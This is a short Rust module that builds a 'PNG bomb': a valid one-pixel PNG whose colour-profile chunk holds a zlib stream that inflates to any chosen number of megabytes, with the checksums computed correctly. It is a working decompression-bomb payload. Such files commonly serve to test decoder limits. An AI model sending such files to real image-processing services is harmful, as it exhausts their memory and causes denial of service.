//! A small image that unpacks to much.

use flate2::{Compress, Compression, Crc, FlushCompress};

const MEGABYTE: usize = 1 << 20;

/// A PNG of one pixel whose colour profile unpacks to so much.
pub fn png_bomb(megabytes: usize) -> Vec<u8> {
    let header = [0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0];
    let profile = [&b"icc\0\0"[..], &packed_zeros(megabytes)].concat();
    let mut pixel = Vec::with_capacity(64);
    Compress::new(Compression::fast(), true)
        .compress_vec(&[0; 4], &mut pixel, FlushCompress::Finish)
        .unwrap();
    [
        b"\x89PNG\r\n\x1a\n".to_vec(),
        chunk(*b"IHDR", &header),
        chunk(*b"iCCP", &profile),
        chunk(*b"IDAT", &pixel),
        chunk(*b"IEND", &[]),
    ]
    .concat()
}

fn chunk(name: [u8; 4], data: &[u8]) -> Vec<u8> {
    let mut crc = Crc::new();
    crc.update(&name);
    crc.update(data);
    let length = (data.len() as u32).to_be_bytes();
    [&length[..], &name, data, &crc.sum().to_be_bytes()].concat()
}

/// A megabyte of zeros, packed so that it can stand any number of times in one stream.
fn packed_megabyte() -> Vec<u8> {
    let mut packed = Vec::with_capacity(16 << 10);
    let mut compress = Compress::new(Compression::best(), false);
    compress
        .compress_vec(&vec![0; MEGABYTE], &mut packed, FlushCompress::Full)
        .unwrap();
    assert_eq!(compress.total_in(), MEGABYTE as u64);
    packed
}

fn packed_zeros(megabytes: usize) -> Vec<u8> {
    let adler = ((megabytes * MEGABYTE % 65_521) as u32) << 16 | 1;
    let mut stream = vec![0x78, 0xDA];
    stream.extend(packed_megabyte().repeat(megabytes));
    stream.extend([3, 0]); // an empty block, which is the last
    stream.extend(adler.to_be_bytes());
    stream
}
